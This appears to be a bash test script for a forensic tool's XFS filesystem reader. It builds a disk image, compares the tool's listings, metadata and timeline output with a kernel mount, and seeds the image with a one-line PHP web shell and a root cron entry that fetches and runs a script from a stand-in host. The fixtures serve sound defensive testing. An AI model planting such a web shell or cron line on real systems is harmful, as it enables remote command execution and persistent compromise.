#!/usr/bin/env bash
# `kanshiki fs` on XFS through the common interface (the XFS reader's ks_fs_ops adapter),
# checked against the kernel through a read-only loop mount.
source "$(dirname "$0")/../lib.sh"
command -v mkfs.xfs >/dev/null || { skip xfs_tools "mkfs.xfs not installed"; exit 0; }
[ "$(id -u)" = 0 ] || { skip xfs_root "loop mounts need root"; exit 0; }
I=$TMP/x.img; M=$TMP/m; mkdir -p "$M"
truncate -s 320M "$I" && mkfs.xfs -q "$I" || { skip xfs_mkfs "mkfs.xfs failed"; exit 0; }
if ! mount -o loop "$I" "$M" 2>/dev/null; then skip xfs_loop "loop mount not permitted here"; exit 0; fi
mkdir -p "$M/var/www/uploads" "$M/etc/cron.d"
printf '<?php system($_GET["c"]); ?>\n' > "$M/var/www/uploads/sh.php"
printf '* * * * * root curl -s http://203.0.113.9/x | sh\n' > "$M/etc/cron.d/x"
ln -s /etc/passwd "$M/link"
python3 -c "import os,sys; os.setxattr(sys.argv[1], 'user.note', b'hello')" "$M/var/www/uploads/sh.php"
touch -d '2026-11-21 13:05:00.123456789' "$M/var/www/uploads/sh.php"
dd if=/dev/urandom of="$M/big" bs=1M count=3 status=none
umount "$M"
mount -o loop,ro "$I" "$M"
kernel=$(cd "$M" && find . -mindepth 1 | sort | while read -r p; do stat -c "%i %s %Y ${p#.}" "$p"; done)
sha_k=$(sha256sum "$M/big" | cut -d' ' -f1)
umount "$M"
expect_rc fs_info_xfs 0 "$KS" fs info "$I"
expect_grep fs_info_says_xfs '^type: xfs' "$TMP/.out"
ours=$("$KS" fs ls -r "$I" | awk '{print $2, $5, $NF}' | sort -k3)
kern=$(printf '%s\n' "$kernel" | awk '{print $1, $2, $4}' | sort -k3)
expect_eq fs_ls_inodes_sizes_paths_match_kernel "$ours" "$kern"
expect_eq fs_cat_xfs_content_matches_kernel "$("$KS" fs cat "$I" /big | sha256sum | cut -d' ' -f1)" "$sha_k"
"$KS" fs stat "$I" /var/www/uploads/sh.php > "$TMP/st.txt"
expect_grep fs_stat_xfs_mtime_ns 'mtime: 2026-11-21T13:05:00.123456789Z' "$TMP/st.txt"
expect_grep fs_stat_xfs_xattr 'user.note = hello' "$TMP/st.txt"
expect_eq fs_readlink_xfs "$("$KS" fs stat "$I" /link | grep -c '/etc/passwd')" "1"
"$KS" fs timeline "$I" --format bodyfile > "$TMP/body.txt"
expect_grep fs_bodyfile_xfs_has_webshell '^0\|/var/www/uploads/sh.php\|' "$TMP/body.txt"
